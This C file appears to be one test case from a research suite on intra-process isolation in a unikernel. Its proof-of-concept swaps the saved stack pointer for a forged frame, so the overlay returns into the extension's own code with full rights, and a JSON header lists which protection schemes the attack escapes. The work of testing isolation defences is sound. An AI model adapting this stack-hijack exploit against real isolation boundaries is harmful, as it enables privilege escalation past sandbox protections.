/*
{
  "title": "The stack pointer that overlay_enter saved, set to a frame of the extension's own in a write window: the unikernel returns to the extension's code with all rights",
  "precondition": "a write window, as uIO exports it",
  "reference": "Hedayati et al., Hodor: Intra-Process Isolation for High-Throughput Data Plane Libraries, USENIX ATC 2019",
  "symbols": ["overlay_return_stack"],
  "cells": {
    "none": {"outcome": "escaped", "rule": "I2", "event": "guardedAccess"},
    "uio-mpk": {"outcome": "escaped", "rule": "I5", "event": "guardedAccess"},
    "mpk-hardened": {"outcome": "contained", "event": "exception"},
    "ring3": {"outcome": "contained", "event": "exception"},
    "pks-hardened": {"outcome": "contained", "event": "exception"},
    "mpk-bundled": {"outcome": "contained"}
  },
  "control": {"mpk-bundled": "contained"}
}
*/
#include "attack.h"

extern uint64_t overlay_return_stack;

static uint64_t frame[8];
static uint64_t saved;

// Where overlay_leave returns to, with all rights; then it does what overlay_leave would have done.
static void goal(void) {
  GOAL_COUNT();
  __asm__ volatile(
      "movq %0, %%rsp\n"
      "addq $8, %%rsp\n"
      "popq %%r15\n popq %%r14\n popq %%r13\n popq %%r12\n popq %%rbx\n popq %%rbp\n"
      "xorl %%eax, %%eax\n"
      "ret" : : "m"(saved));
}

int main(void) {
  ANNOUNCE_BYPASS();
  if (attack_has_keys()) {
    BYPASS_SILENT({
      // A word, six registers, and where to return to.
      saved = overlay_return_stack;
      frame[7] = (uint64_t)goal;
      USHELL_SET(overlay_return_stack, (uint64_t)frame);
      return 0;
    });
  }
  GOAL_COUNT();
  return 0;
}
